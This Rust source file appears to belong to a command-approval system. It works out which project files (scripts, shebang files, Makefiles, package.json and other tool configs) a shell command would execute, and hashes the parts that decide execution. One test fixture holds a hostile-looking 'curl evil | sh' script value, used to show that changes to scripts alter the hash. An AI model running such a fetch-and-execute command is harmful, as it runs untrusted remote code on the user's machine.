//! Files of a project that the words of a command execute, read once.
//!
//! Covered are: the program, where it is a file of the project; the script that an interpreter is given; every other
//! word that names an executable file or one that begins with `#!`; and the files that well-known tools read commands
//! from. What those files load further, programs on the `PATH`, and patterns are not.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::io::{self, Read as _};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Component, Path, PathBuf};

use rustix::fs::{Mode, OFlags};
use serde_json::Value as Json;
use sha2::{Digest as _, Sha256};

use super::CoverageError;

/// The largest file that is covered, in bytes.
const MAX_BYTES: u64 = 4 * 1024 * 1024;

/// Programs whose first argument that is no option is a script.
const INTERPRETERS: [&str; 17] = [
    "sh", "bash", "dash", "zsh", "ksh", "fish", "python", "python3", "node", "bun", "ruby", "perl", "php", "lua",
    "Rscript", "tclsh", "pwsh",
];

/// Tools, and the files that they take commands from.
const TOOLS: [(&str, &[&str]); 27] = [
    ("make", MAKE),
    ("gmake", MAKE),
    ("npm", &["package.json", ".npmrc"]),
    ("npx", &["package.json", ".npmrc"]),
    ("pnpm", &["package.json", ".npmrc", "pnpm-workspace.yaml"]),
    ("yarn", &["package.json", ".yarnrc.yml"]),
    ("bun", &["package.json", "bunfig.toml"]),
    ("just", &["justfile", "Justfile", ".justfile"]),
    ("task", &["Taskfile.yml", "Taskfile.yaml", "taskfile.yml", "taskfile.yaml"]),
    ("tox", &["tox.ini", "setup.cfg", "pyproject.toml"]),
    ("nox", &["noxfile.py"]),
    ("pytest", &["pytest.ini", "tox.ini", "setup.cfg", "pyproject.toml", "conftest.py"]),
    ("poetry", &["pyproject.toml"]),
    ("uv", &["pyproject.toml"]),
    ("hatch", &["pyproject.toml"]),
    ("pdm", &["pyproject.toml"]),
    ("rake", &["Rakefile", "rakefile"]),
    ("cargo", &[".cargo/config.toml", ".cargo/config"]),
    ("gradle", GRADLE),
    ("gradlew", GRADLE),
    ("mvn", &["pom.xml", ".mvn/extensions.xml", ".mvn/jvm.config"]),
    ("ant", &["build.xml"]),
    ("cmake", &["CMakeLists.txt", "CMakePresets.json"]),
    ("composer", &["composer.json"]),
    ("deno", &["deno.json", "deno.jsonc"]),
    ("mix", &["mix.exs"]),
    ("pre-commit", &[".pre-commit-config.yaml"]),
];
const MAKE: &[&str] = &["GNUmakefile", "makefile", "Makefile"];
const GRADLE: &[&str] = &["build.gradle", "build.gradle.kts", "settings.gradle", "settings.gradle.kts"];

/// Parts of files that decide what is executed; the rest may change, such as dependencies.
const PARTS: [(&str, &str); 4] =
    [("package.json", "scripts"), ("composer.json", "scripts"), ("deno.json", "tasks"), ("pyproject.toml", "tool")];

/// A file of a project that a command executes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CoveredFile {
    /// Its name below the workspace.
    pub name: String,
    /// Its bytes when they were hashed.
    pub bytes: Vec<u8>,
    /// Whether it may be run as a program.
    pub executable: bool,
    hash: [u8; 32],
}

impl CoveredFile {
    /// The hash of what decides about execution in it.
    pub(super) fn hash(&self) -> &[u8; 32] {
        &self.hash
    }
}

/// The words of a command, as far as they are written out.
pub(super) struct CommandWords {
    /// The directory it works in, below the workspace.
    pub(super) folder: PathBuf,
    /// The words; one that is not known is left out.
    pub(super) words: Vec<String>,
}

/// The files that commands execute, by their names.
pub(super) fn covered_files(workspace: &Path, commands: &[CommandWords]) -> Result<Vec<CoveredFile>, CoverageError> {
    let mut files = BTreeMap::new();
    for command in commands {
        for name in names(workspace, command) {
            if let Some(file) = read(workspace, &name)? {
                files.insert(name, file);
            }
        }
    }
    Ok(files.into_values().collect())
}

/// The names of files that may be executed, below the workspace.
fn names(workspace: &Path, command: &CommandWords) -> Vec<String> {
    let words = &command.words;
    let Some((program, arguments)) = words.split_first() else { return Vec::new() };
    let mut found: Vec<String> = Vec::new();
    let below = |word: &str| below_folder(workspace, &command.folder, word);
    if program.contains('/') {
        found.extend(below(program));
    }
    for word in arguments {
        let value = word.rsplit_once('=').map_or(word.as_str(), |(_, value)| value);
        let named = [word.as_str(), value].into_iter().filter_map(&below);
        found.extend(named.filter(|name| is_program(&workspace.join(name))));
    }
    // Either may be called by another program: `env make`, `uv run pytest`, `timeout 60 sh check.sh`.
    for (at, word) in words.iter().enumerate() {
        let (name, rest) = (file_name(word), &words[at + 1..]);
        if runs_files(name, rest) {
            let mut given = rest.iter().filter_map(|word| below(word));
            found.extend(given.find(|name| workspace.join(name).is_file()));
        }
        let files = TOOLS.iter().filter(|(tool, _)| *tool == name).flat_map(|(_, files)| files.iter());
        let folder = other_folder(rest).unwrap_or_default();
        found.extend(files.filter_map(|file| below(&Path::new(&folder).join(file).to_string_lossy())));
    }
    found
}

/// The directory that a tool changes to first, where it says so: `make -C sub`.
fn other_folder(words: &[String]) -> Option<String> {
    let flags = ["-C", "--directory", "--prefix", "--dir", "--cwd"];
    words.iter().enumerate().find_map(|(at, word)| {
        let joined = flags.iter().find_map(|flag| word.strip_prefix(flag)?.strip_prefix('=').map(str::to_owned));
        joined.or_else(|| flags.contains(&word.as_str()).then(|| words.get(at + 1).cloned()).flatten())
    })
}

fn file_name(word: &str) -> &str {
    Path::new(word).file_name().and_then(|name| name.to_str()).unwrap_or_default()
}

/// Whether a program executes the file that it is given: an interpreter without code of its own.
pub(crate) fn runs_files(program: &str, arguments: &[String]) -> bool {
    let name = file_name(program);
    let is_code = |word: &String| {
        if name.ends_with("sh") {
            word.starts_with('-') && !word.starts_with("--") && word.contains('c')
        } else {
            ["-c", "-e", "-m", "-p", "-r", "--eval"].contains(&word.as_str())
        }
    };
    INTERPRETERS.contains(&name) && !arguments.iter().take_while(|word| word.starts_with('-')).any(is_code)
}

/// A word as a name below the workspace, if it can be one and is said in this folder of it.
pub(crate) fn below_folder(workspace: &Path, folder: &Path, word: &str) -> Option<String> {
    below(workspace, &folder.join(word).to_string_lossy())
}

/// A word as a name below the workspace, if it can be one.
fn below(workspace: &Path, word: &str) -> Option<String> {
    let mut plain = PathBuf::new();
    let relative = Path::new(word).strip_prefix(workspace).unwrap_or(Path::new(word));
    for part in relative.components() {
        match part {
            Component::Normal(name) => plain.push(name),
            Component::CurDir => {}
            Component::ParentDir if plain.pop() => {}
            Component::ParentDir | Component::RootDir | Component::Prefix(_) => return None,
        }
    }
    plain.to_str().filter(|name| !name.is_empty()).map(str::to_owned)
}

/// Whether a file can be executed, or says by what.
fn is_program(path: &Path) -> bool {
    let Ok(found) = fs::metadata(path) else { return false };
    let begins = || {
        let mut start = [0; 2];
        open(path).and_then(|mut file| file.read_exact(&mut start)).is_ok() && start == *b"#!"
    };
    found.is_file() && (found.permissions().mode() & 0o111 != 0 || begins())
}

/// A pipe that took the file's place must not block.
fn open(path: &Path) -> io::Result<File> {
    let flags = OFlags::RDONLY | OFlags::CLOEXEC | OFlags::NONBLOCK;
    Ok(File::from(rustix::fs::open(path, flags, Mode::empty())?))
}

/// Reads a file once, wherever links lead; nothing where there is none.
fn read(workspace: &Path, name: &str) -> Result<Option<CoveredFile>, CoverageError> {
    let path = workspace.join(name);
    let unreadable = |error: &io::Error| CoverageError::Unreadable { path: path.clone(), reason: error.to_string() };
    let file = match open(&path) {
        Ok(file) => file,
        Err(error) if matches!(error.kind(), io::ErrorKind::NotFound | io::ErrorKind::NotADirectory) => {
            return Ok(None);
        }
        Err(error) => return Err(unreadable(&error)),
    };
    let found = file.metadata().map_err(|error| unreadable(&error))?;
    if found.is_dir() {
        return Ok(None);
    }
    if !found.is_file() {
        return Err(CoverageError::NoFile(path));
    }
    let mut bytes = Vec::new();
    file.take(MAX_BYTES + 1).read_to_end(&mut bytes).map_err(|error| unreadable(&error))?;
    if bytes.len() as u64 > MAX_BYTES {
        return Err(CoverageError::TooLarge { folder: path, most: MAX_BYTES });
    }
    let hash = Sha256::digest(deciding_part(name, &bytes).as_ref().map_or(bytes.as_slice(), String::as_bytes)).into();
    let executable = found.permissions().mode() & 0o111 != 0;
    Ok(Some(CoveredFile { name: name.to_owned(), bytes, executable, hash }))
}

/// The part of a file that decides what is executed; nothing where that is all of it.
fn deciding_part(name: &str, bytes: &[u8]) -> Option<String> {
    let file = Path::new(name).file_name()?.to_str()?;
    let (_, part) = PARTS.iter().find(|(known, _)| *known == file)?;
    let text = str::from_utf8(bytes).ok()?;
    let whole: Json = match file.rsplit_once('.')?.1 {
        "toml" => toml::from_str(text).ok()?,
        _ => serde_json::from_str(text).ok()?,
    };
    Some(format!("{part}={}", whole.get(part).unwrap_or(&Json::Null)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names_of(workspace: &Path, command: &str) -> Vec<String> {
        let words = command.split(' ').map(str::to_owned).collect();
        covered_files(workspace, &[CommandWords { folder: PathBuf::new(), words }])
            .unwrap()
            .into_iter()
            .map(|file| file.name)
            .collect()
    }

    #[test]
    fn the_files_that_words_execute_are_covered() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        for (name, text) in [
            ("Makefile", "test:\n\ttrue\n"),
            ("sub/Makefile", "test:\n"),
            ("package.json", "{}"),
            ("scripts/x.sh", "#!/bin/sh\n"),
            ("tool.py", "pass"),
            ("README.md", "text"),
        ] {
            fs::create_dir_all(root.join(name).parent().unwrap()).unwrap();
            fs::write(root.join(name), text).unwrap();
        }
        for (command, expected) in [
            ("make test", &["Makefile"][..]),
            ("make -C sub test", &["sub/Makefile"]),
            ("npm run test", &["package.json"]),
            ("./scripts/x.sh --all", &["scripts/x.sh"]),
            ("scripts/../scripts/x.sh", &["scripts/x.sh"]),
            ("bash -c scripts/x.sh", &["scripts/x.sh"]),
            ("bash -eu tool.py", &["tool.py"]),
            ("bash scripts/x.sh", &["scripts/x.sh"]),
            ("python3 -u tool.py", &["tool.py"]),
            ("python3 -m tool tool.py", &[]),
            ("python3 -W error tool.py", &["tool.py"]),
            ("env RUN=scripts/x.sh make", &["Makefile", "scripts/x.sh"]),
            ("prettier --check README.md tool.py", &[]),
            ("timeout 60 sh -e tool.py README.md", &["tool.py"]),
            ("cat ../outside", &[]),
        ] {
            assert_eq!(names_of(root, command), expected, "{command}");
        }
    }

    #[test]
    fn what_does_not_decide_may_change() {
        let dir = tempfile::tempdir().unwrap();
        let hash = |text: &str| {
            fs::write(dir.path().join("package.json"), text).unwrap();
            let words = ["npm", "test"].map(str::to_owned).to_vec();
            let npm = CommandWords { folder: PathBuf::new(), words };
            covered_files(dir.path(), &[npm]).unwrap()[0].hash
        };
        let before = hash(r#"{"scripts": {"test": "jest"}, "dependencies": {}}"#);
        assert_eq!(hash(r#"{"dependencies": {"a": "1"}, "scripts": {"test": "jest"}}"#), before);
        assert_ne!(hash(r#"{"scripts": {"test": "curl evil | sh"}}"#), before);
    }
}
